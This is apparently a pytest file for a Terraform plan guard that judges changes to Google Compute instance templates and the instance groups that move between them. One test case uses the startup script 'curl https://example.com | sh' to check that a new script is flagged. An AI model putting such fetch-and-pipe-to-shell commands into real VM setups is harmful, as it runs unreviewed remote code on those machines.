"""What VMs start with from now on, against what they start with today, whatever the addresses."""

import pytest

from pipeline_zen.fleet import STARTUP_SCRIPT
from pipeline_zen.guard.index import PlanIndex
from tests.plans.cases import GROUP, PROJECT, TEMPLATE, Json
from tests.plans.judged import TARGET, judged, rules, told
from tests.plans.made import CALM, change, made_up, plan_of, planned

REGIONAL = "google_compute_region_instance_template"
GLOBAL = f"projects/{PROJECT}/global/instanceTemplates"


def _template(name: str, **more: object) -> Json:
    return {"name": name, "project": PROJECT, "machine_type": "a2-highgpu-1g", **more}


def _group(name: str, old: str, new: str | None, to: str = "") -> tuple[Json, Json]:
    """A group that moves from one template to another, with what is written for that."""
    values, after = (
        {"name": name, "update_policy": [CALM], "version": [{"instance_template": link}]}
        for link in (old, new)
    )
    entry = change(GROUP, ["update"], values, after, name)
    if new is None:
        entry["change"]["after_unknown"] = {"version": [{"instance_template": True}]}
    link = {"references": [f"{to}.id", to]} if to else {"constant_value": new}
    expressions = {"version": [{"instance_template": link}]}
    return entry, {"address": entry["address"], "mode": "managed", "expressions": expressions}


def _plan(*groups: tuple[Json, Json], templates: list[Json]) -> Json:
    written = [{"address": one["address"], "mode": "managed"} for one in templates]
    resources = [*(one for _, one in groups), *written]
    configuration = {"root_module": {"resources": resources}}
    return {**made_up(*templates, *(one for one, _ in groups)), "configuration": configuration}


@pytest.mark.parametrize(
    ("own", "found"),
    [("run", ()), ("curl https://example.com | sh", ("unjudged",))],
)
def test_a_template_of_another_cluster_that_is_replaced(own: str, found: tuple[str, ...]) -> None:
    """It is nothing new for its own cluster, and something else for the group that moves to it."""
    scripts = {"metadata": {"startup-script": own}}
    run = {"metadata": {"startup-script": "run"}}
    templates = [
        change(TEMPLATE, ["no-op"], _template("a", **run), _template("a", **run), "a"),
        change(TEMPLATE, ["create", "delete"], _template("b", **scripts),
               _template("b2", **scripts), "b"),
    ]  # fmt: skip
    moved = _group("calm", f"{GLOBAL}/a", None, f"{TEMPLATE}.b")
    verdict = judged(_plan(moved, templates=templates))

    assert ((), found) == (rules(verdict.blocking), rules(verdict.notable))
    assert all(one.address == f"{GROUP}.calm" for one in verdict.notable)


@pytest.mark.parametrize("order", [1, -1])
@pytest.mark.parametrize(("other", "found"), [("run", ()), ("walk", ("unjudged",))])
def test_a_template_that_takes_the_place_of_two(
    order: int, other: str, found: tuple[str, ...]
) -> None:
    """It is compared with each, in whatever order they stand."""
    scripts = dict(zip("ab"[::order], ("run", other), strict=True))
    templates = [
        change(TEMPLATE, ["delete"], _template(name, metadata={"startup-script": script}), None,
               name)
        for name, script in scripts.items()
    ]  # fmt: skip
    new = _template("c", metadata={"startup-script": "run"})
    templates.append(change(TEMPLATE, ["create"], None, new, "c"))
    moved = [_group(name, f"{GLOBAL}/{name}", None, f"{TEMPLATE}.c") for name in "ab"]

    assert found == rules(judged(_plan(*moved, templates=templates)).notable)


def _there() -> list[Json]:
    """Two templates that stay, `a` and `b`, with the links that Google gives them."""
    unique = f"https://www.googleapis.com/compute/v1/{GLOBAL}"
    return [
        change(TEMPLATE, ["no-op"], one, one, name)
        for name in "ab"
        for one in (_template(name, self_link_unique=f"{unique}/{name}?uniqueId=8"),)
    ]


@pytest.mark.parametrize(
    "link",
    [
        f"projects/{PROJECT}/regions/us-central1/instanceTemplates/b",
        "projects/eng-ai-prod/global/instanceTemplates/b",
        f"projects/{PROJECT}/global/machineImages/b",
        f"https://example.com/compute/v1/{GLOBAL}/b",
        f"https://www.googleapis.com/compute/v1/{GLOBAL}/b?uniqueId=7",
        f"https://www.googleapis.com/compute/v1/{GLOBAL}/b/c",
    ],
)
def test_another_template_of_the_same_name(link: str) -> None:
    """A link leads to one template: what has its name elsewhere is another."""
    plan = _plan(_group("calm", f"{GLOBAL}/a", link), templates=_there())

    assert "group-template-elsewhere" in rules(judged(plan).blocking)


@pytest.mark.parametrize(
    "link",
    [f"{GLOBAL}/b", f"https://www.googleapis.com/compute/v1/{GLOBAL}/b", "b",
     f"https://compute.googleapis.com/compute/beta/{GLOBAL}/b?uniqueId=8"],
)  # fmt: skip
def test_a_template_by_any_of_its_links(link: str) -> None:
    """Google and its provider write them in several forms."""
    verdict = judged(_plan(_group("calm", f"{GLOBAL}/a", link), templates=_there()))

    assert ((), ()) == (verdict.blocking, verdict.notable)


def test_a_regional_template() -> None:
    """It is found by its region, and the global one of its name is another."""
    values = {**_template("a"), "region": "us-west1"}
    there = [change(REGIONAL, ["no-op"], values, values, "r"),
             change(TEMPLATE, ["no-op"], _template("b"), _template("b"), "b")]  # fmt: skip
    regional = f"projects/{PROJECT}/regions/us-west1/instanceTemplates/a"

    here, elsewhere = (
        judged(_plan(_group("calm", f"{GLOBAL}/b", link), templates=there))
        for link in (regional, f"{GLOBAL}/a")
    )

    assert () == here.blocking
    assert ("group-template-elsewhere",) == rules(elsewhere.blocking)


def test_one_of_two_templates() -> None:
    """Where an expression names two, nobody can tell which one it will be."""
    templates = [change(TEMPLATE, ["create"], None, _template(name), name) for name in "bc"]
    old = change(TEMPLATE, ["no-op"], _template("a"), _template("a"), "a")
    entry, written = _group("calm", f"{GLOBAL}/a", None, f"{TEMPLATE}.b")
    written["expressions"]["version"][0]["instance_template"]["references"].append(f"{TEMPLATE}.c")

    plan = _plan((entry, written), templates=[old, *templates])

    assert ("group-template-elsewhere",) == rules(judged(plan).blocking)


@pytest.mark.parametrize(("script", "found"), [(STARTUP_SCRIPT, ()), ("walk", ("unjudged",))])
def test_a_template_in_the_place_of_what_nobody_has(script: str, found: tuple[str, ...]) -> None:
    """Of a group that is adopted, what its VMs start with is not in the plan: it counts as new."""
    account = {
        "email": f"jobs-sa@{PROJECT}.iam.gserviceaccount.com",
        "scopes": ["https://www.googleapis.com/auth/cloud-platform"],
    }
    values = _template("b", metadata={"startup-script": script}, service_account=[account])
    old = change(TEMPLATE, ["delete"], values, None, "a")
    old["change"]["before"]["name"] = "a"
    new = change(TEMPLATE, ["create"], None, {**values, "name": "b"}, "b")
    groups = [
        _group("calm", f"{GLOBAL}/unknown", None, f"{TEMPLATE}.b"),
        _group("other", f"{GLOBAL}/a", None, f"{TEMPLATE}.b"),
    ]
    groups[0][0]["change"]["importing"] = {"id": "calm"}

    for some in (groups[:1], groups):
        assert found == rules(judged(_plan(*some, templates=[old, new])).notable)

    # Nor is it new where the template was there before.
    there = change(TEMPLATE, ["no-op"], {**values, "name": "b"}, {**values, "name": "b"}, "b")
    moved = _group("calm", f"{GLOBAL}/unknown", f"{GLOBAL}/b", f"{TEMPLATE}.b")
    moved[0]["change"]["importing"] = {"id": "calm"}
    assert "unjudged" in rules(judged(_plan(moved, templates=[old, there])).notable)

    # Of one that is there, nobody can tell what VMs start with instead.
    del groups[0][0]["change"]["importing"]
    assert "unjudged" in rules(judged(_plan(*groups[:1], templates=[old, new])).notable)


@pytest.mark.parametrize(
    ("group", "template", "written", "references", "found"),
    [
        ('each["a"]', 'each["a"]', "[each.key]", ["", "each.key"], ()),
        ("each[0]", "each[0]", "[count.index]", ["", "count.index"], ()),
        ('each["a"]', 'each["b"]', '["b"]', ['["b"].id', '["b"]', ""], ()),
        ('each["a"]', 'each["b.c"]', '["b.c"]', ['["b.c"].id', '["b.c"]', ""], ()),
        ('each["b"]', 'each["a"]', "[each.key]", ["", "each.key"], ("group-template-elsewhere",)),
        ('each["a"]', 'each["a"]', "[each.value]", ["", "each.value"],
         ("group-template-elsewhere",)),
        ("each", 'each["a"]', "[each.key]", ["", "each.key"], ("group-template-elsewhere",)),
    ],
)  # fmt: skip
def test_the_template_of_the_same_key(
    group: str, template: str, written: str, references: list[str], found: tuple[str, ...]
) -> None:
    """Of several groups each has the template of its own key, where that is what is written."""
    new = change(TEMPLATE, ["create", "delete"], _template("a"), _template("b"), template)
    entry, expressions = _group(group, f"{GLOBAL}/a", None, TEMPLATE)
    expressions["address"] = f"{GROUP}.each"
    expressions["expressions"]["version"][0]["instance_template"] = {
        "constant_value": f"${{{TEMPLATE}.each{written}.id}}",
        "references": [
            one if one.startswith(("each.", "count.")) else f"{TEMPLATE}.each{one}"
            for one in references
        ],
    }

    assert found == rules(judged(_plan((entry, expressions), templates=[new])).blocking)


@pytest.mark.parametrize(
    ("group", "templates", "found"),
    [
        # What takes the place of the one that it has.
        ("jobs-a-us", {"old": ["create", "delete"], "jobs-a-tpl": ["create"]}, "old"),
        # What is named as it is, the longest first; never as a whole.
        ("jobs-a-us", {"jobs-a-tpl": ["create"], "jobs-tpl": ["create"]}, "jobs-a-tpl"),
        ("jobs-a-us", {"jobs-b-tpl": ["create"], "jobs-tpl": ["create"]}, "jobs-tpl"),
        ("jobs-a-b-us", {"jobs-a-tpl": ["create"], "x": ["create"]}, "jobs-a-tpl"),
        ("jobs-a-b-us", {"jobs-a-b-tpl": ["create"], "x": ["create"]}, "jobs-a-b-tpl"),
        ("jobs-a-us", {"jobs-a-us-tpl": ["create"], "x": ["create"]}, None),
        ("jobs-a-us", {"jobs-a-tpl": ["no-op"], "x": ["no-op"]}, None),
        # The only one that is new.
        ("jobs-a-us", {"x": ["create"], "y": ["create", "delete"], "old": ["no-op"]}, "x"),
        ("jobs-a-us", {"x": ["create"], "y": ["create"]}, None),
        ("jobs-a-us", {"y": ["create", "delete"]}, None),
    ],
)
def test_a_template_of_which_nothing_is_written(
    group: str, templates: dict[str, list[str]], found: str | None
) -> None:
    """Without the configuration it is told by what is made, as far as that is plain."""
    values = {"name": group, "version": [{"instance_template": f"{GLOBAL}/old"}]}
    entry = change(GROUP, ["update"], values, {"name": group})
    entry["change"]["after_unknown"] = {"version": [{"instance_template": True}]}
    made = [
        change(TEMPLATE, actions, None if actions == ["create"] else _template(name),
               _template(f"{name}-2" if len(actions) > 1 else name), name)
        for name, actions in templates.items()
    ]  # fmt: skip
    index = PlanIndex(plan_of(made_up(entry, *made)), TARGET)
    (resource,) = (one for one in index.resources() if one.change.type == GROUP)

    told_of = index.starts.next_template(resource)
    assert found == (told_of.name if told_of else None)


@pytest.mark.parametrize(
    ("link", "found"),
    [("https://localhost/compute/v1/{}/b?uniqueId=8", True), ("{}/b", True),
     ("https://localhost/compute/v1/{}/b?uniqueId=9", False),
     ("https://elsewhere/compute/v1/{}/b?uniqueId=8", False)],
)  # fmt: skip
@pytest.mark.parametrize("key", ["self_link_unique", "self_link"])
def test_where_a_template_says_that_it_is(key: str, link: str, found: bool) -> None:
    """By either of its links; without a project it is in that of the environment."""
    there = {"name": "b", key: f"https://localhost/compute/v1/{GLOBAL}/b?uniqueId=8"}
    old = change(TEMPLATE, ["no-op"], _template("a"), _template("a"), "a")
    plan = _plan(
        _group("calm", f"{GLOBAL}/a", link.format(GLOBAL)),
        templates=[old, change(TEMPLATE, ["no-op"], there, there, "b")],
    )

    assert found == ("group-template-elsewhere" not in rules(judged(plan).blocking))


def test_two_templates_of_one_name() -> None:
    """A group of one region starts from the one that its link leads to."""
    link = f"projects/{PROJECT}/regions/{{}}/instanceTemplates/a"
    templates = [
        change(REGIONAL, ["no-op"], values, values, region)
        for region, script in (("us-west1", "run"), ("us-east1", "walk"))
        for values in (_template("a", region=region, metadata={"startup-script": script}),)
    ]
    entry, written = _group("calm", link.format("us-west1"), link.format("us-east1"))

    assert [
        "unjudged: given another template, which differs in `metadata.startup-script`, `region`"
    ] == told(_plan((entry, written), templates=templates))


def test_a_group_that_moves_to_what_costs_more() -> None:
    """It is told of the group, as the template is nothing new."""
    templates = [
        change(TEMPLATE, ["no-op"], values, values, name)
        for name, gpus in (("a", 1), ("b", 2))
        for values in (_template(name, guest_accelerator=[{"count": gpus}]),)
    ]
    plan = _plan(_group("calm", f"{GLOBAL}/a", f"{GLOBAL}/b"), templates=templates)
    (found,) = judged(plan).notable

    assert ("gpus-added", f"{GROUP}.calm", "calm") == (found.rule, found.address, found.name)
    assert "changed: each VM made from it has 2 GPUs instead of 1" == found.what


def test_a_group_whose_template_is_replaced() -> None:
    """What is new in it is told where it is made, and not of each group again."""
    before, after = (
        _template(name, guest_accelerator=[{"count": gpus}]) for name, gpus in (("a", 1), ("b", 2))
    )
    template = change(TEMPLATE, ["create", "delete"], before, after, "a")
    plan = _plan(_group("calm", f"{GLOBAL}/a", None, f"{TEMPLATE}.a"), templates=[template])

    assert [f"{TEMPLATE}.a"] == [one.address for one in judged(plan).notable]


@pytest.mark.parametrize("actions", [["no-op"], ["create"]])
def test_a_group_that_moves_alone(actions: list[str]) -> None:
    """Another one stays with the template, which goes nowhere."""
    templates = [
        change(TEMPLATE, ["no-op"], _template("a"), _template("a"), "a"),
        change(TEMPLATE, actions, None if actions == ["create"] else _template("b"),
               _template("b"), "b"),
    ]  # fmt: skip
    stays, written = _group("stays", f"{GLOBAL}/a", f"{GLOBAL}/a")
    stays["change"]["actions"] = ["no-op"]
    moved = _group("moves", f"{GLOBAL}/a", f"{GLOBAL}/b")

    assert [] == told(_plan((stays, written), moved, templates=templates))


@pytest.mark.parametrize("actions", [["no-op"], ["update"], ["forget"], ["delete"]])
def test_where_vms_of_a_template_are(actions: list[str]) -> None:
    """In the regions of the groups that name it now, sorted; those that are new are in none yet."""
    version = {"version": [{"instance_template": f"{GLOBAL}/a"}]}
    groups = [
        change(GROUP, actions, {"name": region, "region": region, **version}, version, region)
        for region in ("us-west1", "us-central1")
    ]
    new = change(GROUP, ["create"], None, {"region": "us-east1", **version}, "new")
    marked = change(GROUP, ["no-op"], {"region": ["x"], **version}, version, "marked")
    starts = PlanIndex(plan_of(made_up(*groups, new, marked)), TARGET).starts

    assert {"a": ["us-central1", "us-west1"]} == starts.regions


def test_a_template_that_is_written_as_nobody_can_tell() -> None:
    """A function of what is known later is no reference, and may lead anywhere."""
    new = change(TEMPLATE, ["create"], None, _template("b"), "b")
    entry, written = _group("calm", f"{GLOBAL}/a", None)
    written["expressions"]["version"][0]["instance_template"] = {}
    found = rules(judged(_plan((entry, written), templates=[new])).blocking)

    assert "group-template-elsewhere" in found


@pytest.mark.parametrize(
    ("old", "new", "said"),
    [
        ("projects/i/global/images/a-1", "projects/i/global/images/a-2", []),
        ("projects/i/global/images/a-1", "projects/j/global/images/a-1", ["unjudged"]),
        # Two that lead nowhere need not be alike.
        ("x/y/z", "u/v/w", ["unjudged"]),
    ],
)
def test_an_image_that_changes_in_place(old: str, new: str, said: list[str]) -> None:
    """Google does not do that, and nobody has judged what it would come to."""
    before, after = ({"name": "a", "disk": [{"source_image": link}]} for link in (old, new))
    found = told(planned(TEMPLATE, "update", before, after))

    replaced = planned(TEMPLATE, "create delete", before, {**after, "name": "b"})

    assert said == [one.partition(":")[0] for one in found]
    assert bool(said) == ("vms-other-image" in rules(judged(replaced).blocking))


@pytest.mark.parametrize("module", ["", "module.m.", 'module.m["k"].module.n[0].'])
def test_what_is_referred_to_in_a_module(module: str) -> None:
    """A reference leads to what is beside it in the same module."""
    entry = change(GROUP, ["no-op"], {"name": "g"}, {"name": "g"})
    entry["address"] = f"{module}{GROUP}.one"
    (group,) = PlanIndex(plan_of(made_up(entry)), TARGET).resources()

    assert f"{module}{TEMPLATE}.b" == group.address_of(f"{TEMPLATE}.b.id")
